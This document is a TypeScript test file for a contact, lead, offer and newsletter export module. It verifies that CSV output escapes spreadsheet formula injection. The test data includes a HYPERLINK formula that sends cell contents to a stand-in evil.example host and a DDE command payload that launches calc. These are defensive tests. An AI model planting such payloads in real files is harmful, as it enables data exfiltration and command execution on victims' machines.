import { beforeAll, describe, expect, it } from "vitest";
import { dialects, useTestDatabase } from "../test/databases";
import { insertContact, insertLead, insertOffer, insertSubscription, parseCsv } from "../test/fixtures";
import { csvCell, exportRecords, toCsv } from "./export";

describe("CSV cells", () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?x="&A1,"Klick")', `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Klick"")"`],
    ["+41 61 511 27 40", `"'+41 61 511 27 40"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ["@SUM(A1:A9)", `"'@SUM(A1:A9)"`],
    ["\t=1+1", `"'\t=1+1"`],
    ["\r=1+1", `"'\r=1+1"`],
    ['Er sagte "Grüezi"', `"Er sagte ""Grüezi"""`],
    ["Zeile 1\nZeile 2, mit Komma", `"Zeile 1\nZeile 2, mit Komma"`],
    ["a = b", `"a = b"`],
    [null, `""`],
    [undefined, `""`],
    [42, `"42"`],
  ])("%j becomes %s", (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it("joins cells with commas and rows with CRLF, header first", () => {
    expect(toCsv(["a", "b"], [{ a: 1, b: "x" }, { a: "=1" }])).toBe('"a","b"\r\n"1","x"\r\n"\'=1",""\r\n');
  });
});

describe.each(dialects)("export on %s", (dialect) => {
  const database = useTestDatabase(dialect);
  const db = () => database.handle.db;

  beforeAll(async () => {
    await insertContact(db(), {
      id: "c-old",
      created_at: "2025-12-31T23:59:59.999Z",
      name: "Alt Kunde",
      message: "Vom letzten Jahr",
    });
    await insertContact(db(), {
      id: "c-evil",
      created_at: "2026-01-01T00:00:00.000Z",
      name: '=HYPERLINK("https://evil.example","Rechnung")',
      company: "@Firma",
      phone: "+41 79 000 00 00",
      message: 'Er sagte "bitte rasch", dann:\n-5 Punkte',
      language: "fr",
      page: "/fr/contact",
    });
    await insertContact(db(), { id: "c-new", created_at: "2026-02-15T10:00:00.000Z", name: "Neu Kundin", spam: 1 });
    await insertLead(db(), { id: "l-1", created_at: "2026-02-01T08:00:00.000Z", name: "Lead Eins", area: 250 });
    await insertOffer(db(), { created_at: "2026-02-02T08:00:00.000Z", number: "OF-2026-0001" });
    await insertSubscription(db(), {
      email: "leser@example.ch",
      status: "confirmed",
      created_at: "2026-02-03T08:00:00.000Z",
    });
  });

  it("exports contact messages as CSV a spreadsheet reads safely, oldest first", async () => {
    const csv = await exportRecords(db(), { type: "contacts", format: "csv" });
    expect(csv.endsWith("\r\n")).toBe(true);
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual([
      "id",
      "created_at",
      "name",
      "company",
      "email",
      "phone",
      "message",
      "language",
      "page",
      "spam",
    ]);
    expect(rows.slice(1).map((r) => r[0])).toEqual(["c-old", "c-evil", "c-new"]);
    const evil = rows[2]!;
    expect(evil[2]).toBe(`'=HYPERLINK("https://evil.example","Rechnung")`);
    expect(evil[3]).toBe("'@Firma");
    expect(evil[5]).toBe("'+41 79 000 00 00");
    expect(evil[6]).toBe('Er sagte "bitte rasch", dann:\n-5 Punkte');
    expect(evil.slice(7)).toEqual(["fr", "/fr/contact", "0"]);
    expect(rows[3]![9]).toBe("1"); // spam is marked, so the company can filter it
    // No cell of the file starts a formula.
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("exports JSON with the values as stored", async () => {
    const json = JSON.parse(await exportRecords(db(), { type: "contacts", format: "json" })) as Record<
      string,
      unknown
    >[];
    expect(json.map((r) => r.id)).toEqual(["c-old", "c-evil", "c-new"]);
    expect(json[1]).toEqual({
      id: "c-evil",
      created_at: "2026-01-01T00:00:00.000Z",
      name: '=HYPERLINK("https://evil.example","Rechnung")',
      company: "@Firma",
      email: "anna@example.ch",
      phone: "+41 79 000 00 00",
      message: 'Er sagte "bitte rasch", dann:\n-5 Punkte',
      language: "fr",
      page: "/fr/contact",
      spam: 0,
    });
  });

  it("--since keeps records from that day on (UTC)", async () => {
    const since = JSON.parse(await exportRecords(db(), { type: "contacts", format: "json", since: "2026-01-01" }));
    expect(since.map((r: { id: string }) => r.id)).toEqual(["c-evil", "c-new"]);
    const later = parseCsv(await exportRecords(db(), { type: "contacts", format: "csv", since: "2026-02-16" }));
    expect(later).toHaveLength(1); // the header only
  });

  it("exports leads, offers and newsletter sign-ups, never the token hashes", async () => {
    const leads = JSON.parse(await exportRecords(db(), { type: "leads", format: "json" }));
    expect(leads).toEqual([expect.objectContaining({ id: "l-1", name: "Lead Eins", area: 250 })]);
    const offers = parseCsv(await exportRecords(db(), { type: "offers", format: "csv" }));
    expect(offers[0]![0]).toBe("number");
    expect(offers[1]![0]).toBe("OF-2026-0001");
    expect(offers[1]).toContain("480");
    // Every offer with its state (a sent offer past its validity reads as expired) and the times of its transitions.
    expect(offers[0]).toEqual(
      expect.arrayContaining(["state", "accepted_at", "declined_at", "expired_at", "decline_reason"]),
    );
    expect(offers[0]).not.toContain("access_token_hash");
    const states = JSON.parse(
      await exportRecords(db(), { type: "offers", format: "json", now: new Date("2026-02-01T00:00:00Z") }),
    );
    expect(states.map((o: { state: string }) => o.state)).toEqual(["sent"]);
    const later = JSON.parse(
      await exportRecords(db(), { type: "offers", format: "json", now: new Date("2027-01-01T00:00:00Z") }),
    );
    expect(later.map((o: { state: string }) => o.state)).toEqual(["expired"]);
    const newsletter = await exportRecords(db(), { type: "newsletter", format: "json" });
    expect(JSON.parse(newsletter)).toEqual([
      {
        email: "leser@example.ch",
        status: "confirmed",
        language: "de",
        created_at: "2026-02-03T08:00:00.000Z",
        consented_at: "2026-02-03T08:00:00.000Z",
        unsubscribed_at: null,
        page: null,
      },
    ]);
    expect(newsletter).not.toMatch(/token/);
  });
});
